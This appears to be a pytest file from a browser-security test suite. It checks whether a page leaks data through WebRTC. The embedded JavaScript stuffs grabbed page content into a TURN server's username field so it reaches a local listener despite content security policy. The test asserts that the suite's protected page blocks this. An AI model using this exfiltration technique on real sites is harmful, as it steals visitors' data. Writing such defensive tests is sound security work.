"""WebRTC, which no content security policy can forbid in today's browsers: a script names a server, and puts the data
to send into the credentials.
"""

import contextlib
import socket
import threading

import pytest

from tests.attacks.carried_out import GRAB
from tests.attacks.speech import said

CALL = """
  const [loot, port] = [globalThis.grabbed(), PORT];
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: `turn:127.0.0.1:${port}?transport=udp`, username: loot.slice(-400), credential: "x" },
    { urls: `stun:127.0.0.1:${port}` } ], iceTransportPolicy: "all" });
  peer.createDataChannel("x");
  peer.onicecandidate = ({ candidate }) => evil.note(candidate && candidate.candidate);
  peer.onicecandidateerror = (event) => evil.note(event.errorText, event.url);
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((done) => setTimeout(done, 4000));
  evil.note(peer.localDescription.sdp);
  peer.close();
  return loot;"""
REMAINS = "reaches a server of its choice by WebRTC, with what the page shows"
HEARD = []


@contextlib.contextmanager
def listening():
    """Listen on a UDP port of the attacker's, which records what arrives."""
    HEARD.clear()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("127.0.0.1", 0))
        ear.settimeout(0.2)
        over = threading.Event()

        def hear():
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    HEARD.append(ear.recv(4096))

        thread = threading.Thread(target=hear, daemon=True)
        thread.start()
        try:
            yield ear.getsockname()[1]
        finally:
            over.set()
            thread.join()


pytestmark = pytest.mark.needs("peers")


def act(scene):
    subject = scene.subject
    subject.sign_in(scene.visitor)
    scene.run(said(GRAB))
    subject.call(scene.visitor)
    with listening() as port:
        scene.run(said(CALL.replace("PORT", str(port))))
    scene.taken.extend(each.decode("latin-1") for each in HEARD)
    scene.collect()


def test_page_held(assault, page_held):
    assert assault(page_held).stolen


def test_ours(assault, ours):
    assert assault(ours).stolen == ()
